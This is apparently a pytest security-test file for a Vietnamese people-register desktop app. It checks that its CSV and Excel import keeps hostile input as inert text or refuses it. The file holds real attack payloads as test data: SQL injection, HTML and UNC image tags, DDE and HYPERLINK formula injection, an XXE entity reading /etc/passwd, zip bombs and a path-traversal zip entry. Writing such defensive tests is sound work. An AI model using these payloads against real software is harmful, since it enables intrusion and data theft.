"""Bad inputs of the security reference (§8) that a list can bring: kept as written, or refused.

Numbers in the names of the cases are those of the reference.  Every row goes in through a file, the
child that reads it, the bus and the encrypted book, and is looked up again.
"""

from __future__ import annotations

import csv
import io
import struct
import zipfile
from pathlib import Path

import pytest
import xlsxwriter

from ctxh_desktop.commands.bus import Bus
from ctxh_desktop.commands.imports import ImportPeople, PreviewImport
from ctxh_desktop.commands.people import CountPeople
from ctxh_desktop.domain.values import clean
from ctxh_desktop.errors import CtxhError
from ctxh_desktop.texts import Texts
from tests.data.desks import new_desk
from tests.data.prompt import Run
from tests.data.workbooks import ROWS, repacked, xls, xlsx

HEAD = ["Họ và tên", "Năm sinh", "Số CCCD", "Điện thoại", "Thôn", "Ghi chú"]

TEXTS = {
    "1": "' OR '1'='1", "2": "'); DROP TABLE doi_tuong;--", "3": 'Robert"); --', "4": "%",
    "5": "_x_", "6": "\\", "7": '"*" OR name:*', "8": "NEAR(", "9": "^abc", "9b": "-abc",
    "10": '<img src="file:///C:/Windows/win.ini">', "11": r'<img src="\\attacker\share\x.png">',
    "12": '<img src="http://127.0.0.1:9/x">', "14": "<b>đậm</b>", "15": "&lt;script&gt;",
    "16": "A <3 B & C", "17": "{{7*7}}", "18": "${7*7}", "19": "%s%s%n", "20": "%(password)s",
    "21": "=1+1", "22": '=HYPERLINK("http://x/?"&A1,"a")', "23": "=cmd|' /C calc'!A0",
    "24": "+84912345678", "25": "-1+1", "26": "@SUM(1)", "27": "\t=1+1", "28": "\r=1+1",
    "29": "a|b", "30": "a\0b", "31": "chuông\x07 \x1b[31m", "32": "a\r\nSet-Cookie: a=b",
    "33": "a\n2026-11-16 INFO giả", "34": "Nguye\u0302\u0303n", "35": "Nguyễn Bu\u031bởi",
    "36": "d\u0335ường", "40": "abc\u202edef", "41": "Ho\u200ba \ufeffx", "42": "  hai\u00a0 chữ ",
    "43": "\u041dguyen", "44": "👨\u200d👩\u200d👧", "45": "\U0002070e", "47": "a" + "\u0301" * 100,
    "49": "Ý", "50": "H'Hen Niê, Y Ê Ban, Rơ Châm", "52": "Chưa rõ tên",
}  # fmt: skip

FORMULAS = ("2", "10", "21", "22", "23", "26", "44")

NAMES = {
    "1": ("' OR '1'='1", "name-has-digits"), "3": ('Robert"); --', 'Robert"); --'),
    "4": ("%", "name-has-no-letters"), "14": ("<b>đậm</b>", "<b>đậm</b>"),
    "16": ("A <3 B & C", "name-has-digits"), "29": ("Lê|An", "Lê|An"), "30": ("Lê\0An", "LêAn"),
    "31": ("Lê\x07 An", "Lê An"), "32": ("Lê An\r\nX: b", "Lê An X: b"),
    "34": ("Nguye\u0302\u0303n An", "Nguyễn An"), "37": ("NguyÔn V¨n An", "Nguyễn Văn An"),
    "38": ("Nguyeãn Vaên An", "Nguyễn Văn An"), "39": ("Nguyá»…n VÄƒn An", "Nguyễn Văn An"),
    "40": ("Lê\u202e An", "Lê An"), "41": ("Lê\u200b An\ufeff", "Lê An"),
    "42": (" Lê\u00a0\u00a0An ", "Lê An"), "43": ("\u041dguyen An", "\u041dguyen An"),
    "44": ("👨\u200d👩\u200d👧", "name-has-no-letters"), "45": ("Lê \U0002070e", "Lê \U0002070e"),
    "49": ("Ý", "Ý"), "50": ("A" * 121, "text-too-long"), "50b": ("H'HEN NIÊ", "H'Hen Niê"),
    "50c": ("Y Ê Ban", "Y Ê Ban"), "50d": ("Rơ Châm", "Rơ Châm"),
    "51": ("123456", "name-has-digits"), "52": ("Chưa rõ tên", "Chưa rõ tên"),
}  # fmt: skip

WIDE, ARABIC = (
    "".join(chr(zero + int(digit)) for digit in "046088001234") for zero in (0xFF10, 0x660)
)
CELLS = [
    ("53", "id_number", "01108800123", "id-length"),
    ("53b", "id_number", "0460880012345", "id-length"),
    ("54", "id_number", "000000000000", "000000000000"),
    ("55", "id_number", "999088001234", "999088001234"),
    ("56", "id_number", "O46088001234", "id-not-digits"),
    ("57", "id_number", WIDE, "046088001234"),
    ("58", "id_number", ARABIC, "id-not-digits"),
    ("59", "id_number", "046-088.001 234", "046088001234"),
    ("60", "id_number", "19123456", "019123456"),
    ("61", "id_number", "1.08E+10", "id-digits-lost"),
    ("62", "id_number", "46088001234.0", "046088001234"),
    ("63", "born", "31/02/2012", "no-such-day"),
    ("64", "born", "29/02/2023", "no-such-day"),
    ("65", "born", "00/00/2012", "2012"),
    ("66", "born", "13/13/2013", None),
    ("67", "born", "2012", "2012"),
    ("68", "born", "0001", None),
    ("68b", "born", "9999", None),
    ("69", "born", "22/11/2099", None),
    ("71", "born", "1895", None),
    ("72", "born", "41000", None),
    ("73", "born", "5/8/12", "2012-08-05"),
    ("74", "born", "30/2/1950", "no-such-day"),
    ("75", "born", "1950-08-05T00:00:00", "1950-08-05"),
    ("76", "phone", "84", "84"),
    ("76b", "phone", "912345678", "0912345678"),
    ("76c", "phone", "1" * 20, "1" * 20),
    ("76d", "phone", "0912.345.678/0987654321", "0912345678, 0987654321"),
]


@pytest.fixture
def bus(tmp_path):
    desk = new_desk(tmp_path / "book")
    yield Bus(desk)
    desk.close()


def csv_file(folder: Path, *rows: list[str]) -> Path:
    text = io.StringIO()
    csv.writer(text, delimiter=";", quoting=csv.QUOTE_ALL).writerows([HEAD, *rows])
    path = folder / "bad.csv"
    path.write_bytes(text.getvalue().encode())
    return path


def people_of(bus: Bus) -> list[dict]:
    with bus.desk.read() as reader:
        return [row.values for row in reader.where("person")]


@pytest.mark.parametrize("case", TEXTS)
def test_text_is_kept_as_written(bus, tmp_path, case):
    text = TEXTS[case]
    path = csv_file(tmp_path, ["Lê Văn An", "1950", "", "", text, text])
    done = bus.send(ImportPeople(path)).result
    (person,) = people_of(bus)
    written = clean(text.replace("\r\n", "\n").replace("\r", "\n"))
    assert done.count == 1
    assert " ".join(str(person["note"]).split()) == " ".join(written.split())
    assert person["village"] == " ".join(written.split())
    assert person["full_name"] == "Lê Văn An"


@pytest.mark.parametrize("case", NAMES)
def test_name_is_kept_or_refused(bus, tmp_path, case):
    written, expected = NAMES[case]
    path = csv_file(tmp_path, [written, "1950", "", "", "1", ""], ["Tran Binh", "1951"])
    preview = bus.send(PreviewImport(path)).result.preview
    bus.send(ImportPeople(path, skip_errors=True))
    stored = {person["full_name"] for person in people_of(bus)}
    refused = [problem.code for row in preview.with_problems for problem in row.problems]
    assert len(preview.rows) == 2
    assert (stored, refused) in (
        ({expected, "Tran Binh"}, []), ({"Tran Binh"}, [expected]),
    )  # fmt: skip


@pytest.mark.parametrize(("case", "field", "cell", "expected"), CELLS)
def test_number_and_day_are_read_or_refused_with_a_sentence(
    bus, tmp_path, case, field, cell, expected
):
    row = ["Lê Văn An", "", "", "", "Thôn 1", ""]
    row[{"born": 1, "id_number": 2, "phone": 3}[field]] = cell
    path = csv_file(tmp_path, row)
    (seen,) = bus.send(PreviewImport(path)).result.preview.rows
    bus.send(ImportPeople(path, skip_errors=True))
    stored = [person[field] for person in people_of(bus)]
    if seen.problems:
        (problem,) = seen.problems
        sentence = Texts("vi").sentence(CtxhError(problem.code, **problem.facts))
        assert (problem.field, stored) == (field, [])
        assert expected in (None, problem.code)
        assert problem.code not in sentence
    else:
        assert stored == [expected]


@pytest.mark.parametrize(
    "text", [TEXTS[case] for case in ("2", "10", "21", "22", "23", "26", "44")]
)
def test_text_of_a_workbook_is_kept_as_written(bus, tmp_path, text):
    path = tmp_path / "a.xlsx"
    with xlsxwriter.Workbook(
        path, {"strings_to_formulas": False, "strings_to_urls": False}
    ) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, HEAD)
        sheet.write_row(1, 0, ["Lê Văn An", 1950, "", "", "", text])
    bus.send(ImportPeople(path))
    assert people_of(bus)[0]["note"] == clean(text)


def zipped(*entries: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in entries:
            packed.writestr(name, data)
    return buffer.getvalue()


def bomb() -> bytes:
    return repacked(xlsx(ROWS), sheet1=b"<worksheet>" + b" " * 204_000_000 + b"</worksheet>")


def shared_bomb() -> bytes:
    shared = b"<sst><si><t>" + b"a" * 30_000 + b"</t></si></sst>"
    cells = b"".join(
        b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (r, r) for r in range(1, 9000)
    )
    sheet = b"<worksheet><sheetData>" + cells + b"</sheetData></worksheet>"
    return repacked(xlsx(ROWS), sharedStrings=shared, sheet1=sheet)


def far_cell() -> bytes:
    cell = b'<worksheet><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'  # noqa: E501
    return repacked(xlsx(ROWS), sheet1=cell)


def laughs() -> bytes:
    doctype = b'<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY x SYSTEM "file:///etc/passwd">]>'
    sheet = (
        b"<?xml version='1.0'?>" + doctype + b"<worksheet><sheetData><row r='1'><c r='A1' "
        b"t='inlineStr'><is><t>&a;&x;</t></is></c></row></sheetData></worksheet>"
    )
    return repacked(xlsx(ROWS), sheet1=sheet)


def overlapping() -> bytes:
    """A directory whose second entry points at the first one's data."""
    data = bytearray(zipped(("xl/workbook.xml", b"<workbook/>"), ("xl/b.xml", b"x" * 50)))
    second = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, second + 42, 0)
    return bytes(data)


FILES = {
    "77": bomb, "78": lambda: zipped(("lib 0.zip", zipped(("0.zip", b"0")))), "79": overlapping,
    "80": lambda: zipped(*((f"xl/{n}", b"") for n in range(2000)), ("xl/workbook.xml", b"<w/>")),
    "81": shared_bomb, "82": far_cell, "83": laughs,
    "87": lambda: xlsx(ROWS)[:900],
    "89": lambda: zipped(("../../evil.txt", b"x"), ("CON.txt", b"")),
    "95": lambda: b"%PDF-1.7\n" + xlsx(ROWS), "96": lambda: b"",
}  # fmt: skip


@pytest.mark.parametrize("case", FILES)
def test_a_file_made_to_hurt_is_refused_with_a_sentence(bus, tmp_path, case):
    path = tmp_path / "a.xlsx"
    path.write_bytes(FILES[case]())
    with pytest.raises(CtxhError) as refused:
        bus.send(ImportPeople(path))
    assert refused.value.code.startswith("sheet-")
    assert bus.send(CountPeople()).result == 0
    assert {entry.name for entry in tmp_path.iterdir()} == {"a.xlsx", "book"}


def macros() -> bytes:
    data = io.BytesIO(xlsx(ROWS))
    with zipfile.ZipFile(data, "a") as book:
        book.writestr("xl/vbaProject.bin", b"\xd0\xcf macro")
    return data.getvalue()


@pytest.mark.parametrize(
    ("case", "data"),
    [
        ("84", macros()),
        ("85", xls(ROWS)),
        ("85b", "Họ và tên;Năm sinh\nBông;1948\nĐức;1950".encode()),
    ],
)
def test_a_harmless_file_under_another_name_is_read(bus, tmp_path, case, data):
    path = tmp_path / "a.xlsx"
    path.write_bytes(data)
    assert bus.send(ImportPeople(path)).result.count == 2


@pytest.mark.parametrize("name", ["x" * 300 + ".xlsx", "no\0thing.xlsx", "missing/a.xlsx", "."])
def test_a_file_that_cannot_be_opened_is_said_so(bus, tmp_path, name):
    with pytest.raises(CtxhError) as refused:
        bus.send(ImportPeople(tmp_path / name))
    assert refused.value.code == "file-not-readable"


def test_the_prompt_refuses_with_sentences_too(book: Run, tmp_path):
    rows = [[written, "1950"] for written, _ in NAMES.values()]
    path = csv_file(tmp_path, *rows)
    code, told, said = book("a", "import", "people", str(path), "--dry-run")
    assert code == 5, said
    assert told["ready"] + told["with_problems"] + told["known"] == len(rows)
    code, told, _ = book("a", "import", "people", str(path), "--skip-errors")
    assert told["count"] + told["with_problems"] == len(rows)
    for make in (bomb, laughs, overlapping):
        (tmp_path / "b.xlsx").write_bytes(make())
        code, told, _ = book("a", "import", "people", str(tmp_path / "b.xlsx"))
        assert (code, told["error"]["code"][:6]) == (1, "sheet-")
